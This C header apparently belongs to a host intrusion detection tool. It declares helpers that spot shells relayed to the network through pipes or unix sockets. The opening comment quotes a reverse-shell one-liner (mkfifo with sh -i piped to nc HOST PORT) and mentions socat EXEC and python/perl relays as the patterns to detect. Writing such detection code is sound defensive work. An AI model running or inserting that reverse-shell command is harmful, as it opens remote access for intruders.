/* Shells relayed to the network: a shell reading its commands from a pipe
 * or a unix socket whose other end a relay holds (socat EXEC:, a python or
 * perl relay, `mkfifo f; cat f | sh -i | nc HOST PORT > f`), the relay
 * holding the IPv4/IPv6 socket. VG-064 sees a shell whose own standard input
 * is a network socket; here the socket is one process away.
 *
 * Read from /proc when the event is evaluated (racy: a relay that has not
 * connected yet, or is gone, holds nothing; the rule also looks from the
 * relay's side, at its connect): the candidate's descriptors
 * (/proc/PID/fd) and its network namespace's socket tables
 * (/proc/PID/net/tcp, tcp6, udp, udp6), bounded. Only asked for shells that
 * read their commands from standard input with standard output on a pipe or
 * unix socket, and for connects of processes whose standard input is such a
 * shell's pipe: rare events. */
#ifndef VIGIL_FIELDS_RELAY_H
#define VIGIL_FIELDS_RELAY_H

#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>

/* Does process pid hold an IPv4/IPv6 socket (TCP or UDP)? When pipe_ino is
 * not 0, it must also hold that pipe (it is the pipe's other end). */
bool vg_relay_holds_net(uint32_t pid, uint64_t pipe_ino);

/* Arguments (NUL after each, argv[0] excluded) of a shell that reads its
 * commands from standard input: only options, none of them -c, and no
 * script operand (sh, sh -i, bash -s, bash --norc -i). */
bool vg_shell_args_read_stdin(const char *args, size_t len);

#endif
